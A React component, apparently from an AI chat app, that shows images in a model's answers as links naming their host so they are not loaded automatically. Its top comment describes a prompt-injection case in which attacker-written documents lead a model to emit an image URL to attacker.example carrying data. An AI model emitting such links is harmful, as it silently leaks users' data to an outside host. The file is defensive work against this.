import type { ComponentProps } from 'react';
import type { ExtraProps } from 'react-markdown';

/**
 * An image in an answer, shown as a link rather than loaded. A model that has read attacker-written text (a
 * knowledge-base document, the resource catalogue) can be led to write `![x](https://attacker.example/?q=…)`,
 * and loading it would send whatever is in the URL to that host without anyone clicking. The link names the
 * host, so following it is the reader's choice. (The Content Security Policy blocks remote images anyway.)
 */
export function ImageLink({ node: _node, src, alt }: ComponentProps<'img'> & ExtraProps) {
  const label = `Image: ${alt?.trim() || 'untitled'}`;
  // react-markdown has already emptied unsafe URLs (javascript:, data:…).
  if (typeof src !== 'string' || src === '') return <span className="image-link">{label}</span>;
  const host = hostOf(src);
  return (
    <a className="image-link" href={src} target="_blank" rel="noopener noreferrer" title={src}>
      {label}
      {host && (
        <>
          {' '}
          <span className="image-link-host">({host})</span>
        </>
      )}
    </a>
  );
}

function hostOf(url: string): string | undefined {
  try {
    return new URL(url).host || undefined;
  } catch {
    return undefined; // a relative URL: this app's own origin
  }
}
